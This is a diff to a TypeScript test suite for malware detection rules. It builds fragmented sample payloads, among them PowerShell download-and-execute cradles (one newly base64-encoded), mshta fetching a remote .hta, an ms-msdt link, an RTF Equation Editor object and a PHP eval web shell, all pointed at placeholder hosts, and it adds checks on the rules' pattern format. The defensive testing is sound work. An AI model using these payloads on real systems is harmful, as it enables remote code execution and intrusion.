@@ -31,7 +31,11 @@ const harmful: Record<string, Uint8Array | string> = {
     'XMLHTTP")\nCreateObject("WScript.',
     'Shell").Run f',
   ),
-  RTF_Equation_Editor_Object: `{\\rtf1{\\object\\objemb\\obj${'update'}{\\*\\obj${'data'} 0105 ${EQUATION.slice(0, 8)}\n${EQUATION.slice(8)}}}}`,
+  RTF_Equation_Editor_Object: joined(
+    '{\\rtf1{\\object\\objemb\\obj',
+    'update{\\*\\obj',
+    `data 0105 ${EQUATION}}}}`,
+  ),
   Office_Diagnostic_Tool_Link: joined(
     'location.href = "ms-',
     'msdt:/id PCWDiagnostic /param IT_Browse',
@@ -63,7 +67,10 @@ const harmful: Record<string, Uint8Array | string> = {
     'den -c "IEX (New-Object Net.WebClient).Download',
     "String('http://x')\"",
   ),
-  PowerShell_Encoded_Command: joined('powershell.exe -w hid', 'den -enc ', 'QUJD'.repeat(40)),
+  PowerShell_Encoded_Command: joined(
+    'powershell.exe -nop -enc ',
+    wide("(New-Object Net.WebClient).DownloadString('http://x')").toString('base64'),
+  ),
   Shortcut_Starts_Script: Buffer.concat([
     SHORTCUT,
     wide(joined('C:\\Windows\\mshta', '.exe https', '://x/y.hta')),
@@ -71,15 +78,30 @@ const harmful: Record<string, Uint8Array | string> = {
   PHP_Request_Shell: joined('<?php @ev', 'al(base64_decode($_PO', 'ST["x"])); ?>'),
 };
 
-const ruleNames = async () => {
+const ruleTexts = async () => {
   const folder = new URL('../../../rules/', import.meta.url);
-  const texts = await Promise.all(
-    (await readdir(folder)).map((name) => readFile(new URL(name, folder), 'utf8')),
-  );
-  return texts.flatMap((text) => [...text.matchAll(/^rule (\w+)/gm)].map(([, name]) => name));
+  return Promise.all((await readdir(folder)).map((name) => readFile(new URL(name, folder), 'utf8')));
 };
+const ruleNames = async () =>
+  (await ruleTexts()).flatMap((text) => [...text.matchAll(/^rule (\w+)/gm)].map(([, name]) => name));
 
 describe('the shipped rules', () => {
+  it('are plain texts without offsets and sizes, so that no file can make them slow or judge them wrong', async () => {
+    const rules = (await ruleTexts()).join('\n').replaceAll(/^\s*\/\/.*$/gm, '');
+    const patterns = [...rules.matchAll(/^\s*\$\w+ = (.)/gm)].map(([, first]) => first);
+    expect(patterns.length).toBeGreaterThan(50);
+    expect(patterns.filter((first) => first !== '"' && first !== '{')).toEqual([]);
+    const conditions = rules
+      .split('condition:')
+      .slice(1)
+      .map((text) => text.split('}', 1)[0]?.trim());
+    for (const condition of conditions) {
+      expect(condition).toMatch(
+        /^(all of them|(\$\w+|any of \(\$\w+\*\))( and (\$\w+|any of \(\$\w+\*\)))*)$/,
+      );
+    }
+  });
+
   it('are all tried here', async () => {
     expect((await ruleNames()).toSorted()).toEqual(Object.keys(harmful).toSorted());
   });
